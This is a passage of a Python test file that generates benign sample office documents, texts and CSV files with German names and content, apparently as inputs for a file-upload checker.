        yield f"{kind} with link", f"Vorlage.{kind}", ooxml(kind, rels=relation("hyperlink", "https://www.lwl.org/"))
        yield f"{kind} with picture", f"Vorlage.{kind}", ooxml(kind, more=[(f"{kind}/media/image1.png", picture())])
    yield (
        "docx umlaut",
        "Ämterübersicht für Köln.docx",
        ooxml(body=paragraph("Größe: süß & schön".replace("&", "&amp;"))),
    )
    yield "docx long", "Bericht.docx", ooxml(body="".join(paragraph(f"Absatz {n}, Netzwerk") for n in range(20_000)))
    yield "docx page number", "Bericht.docx", ooxml(body="<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>")
    yield "docx mail", "Bericht.docx", ooxml(rels=relation("hyperlink", "mailto:amt@example.org"))
    yield (
        "docx with svg",
        "Bericht.docx",
        ooxml(more=[("word/media/i.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>')]),
    )
    yield "xlsx with formula", "Zahlen.xlsx", ooxml("xlsx", body="<c><f>SUM(A1:A9)*2</f></c>")
    yield (
        "xlsx with printer",
        "Zahlen.xlsx",
        ooxml("xlsx", more=[("xl/printerSettings/printerSettings1.bin", b"\x01\x02" * 50)]),
    )
    yield "xlsx many cells", "Zahlen.xlsx", ooxml("xlsx", body="<c><v>1</v></c>" * 50_000)
    for kind in ODF:
        yield kind, f"Vorlage.{kind}", odf(kind)
        yield f"{kind} with picture", f"Vorlage.{kind}", odf(kind, more=[("Pictures/1.png", picture())])
    yield "odt with link", "Brief.odt", odf(body='<text:a xlink:href="https://www.lwl.org/">LWL</text:a>')
    yield "odt with empty parts", "Brief.odt", odf(more=[("Configurations2/accelerator/current.xml", "")])
    yield (
        "odt from a template",
        "Brief.odt",
        odf(body='<meta:template xmlns:meta="urn:x" xlink:href="file:///usr/share/brief.ott"/>'),
    )
    yield "odt with its picture", "Brief.odt", odf(body='<draw:image xlink:href="Pictures/1.png"/>')
    yield "ods with chart", "Zahlen.ods", odf("ods", more=[("Object 1/content.xml", "<x/>")])
    yield "ods with formula", "Zahlen.ods", odf("ods", body='<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>')


def honest_texts():
    yield "text one letter", "a.txt", b"a"
    yield "text umlaut", "Grüße.txt", "Viele Grüße aus Köln – bis bald 🙂\r\n".encode()
    yield "text with mark", "Notiz.TXT", b"\xef\xbb\xbf" + "Ämter".encode()
    yield "text arrows", "Notiz.txt", b"a < b und c > d, 3 <4>, E-Mail <amt@example.org>\n"
    yield "text long", "Lang.txt", b"Kita und Schule arbeiten zusammen.\n" * 20_000
    yield "text lines only", "Leer.txt", b"\n\n\n"
    yield "text in arabic", "Text.txt", "أهلا وسهلا".encode()
    yield "csv", "Liste.csv", "Name;Telefon;Saldo\nÄmter;+49 251 1234;-5,20\n".encode()
    yield "csv comma", "Liste.csv", b'name,note\n"Kita, am Park","sagt ""ja"""\n'
    yield "csv tab", "Liste.csv", b"a\tb\n1\t2\n"
    yield "csv one cell", "Liste.csv", b"1"
    yield "csv negative", "Liste.csv", b"Ort;Wert\nHamm;-12\nUnna;+3\n"
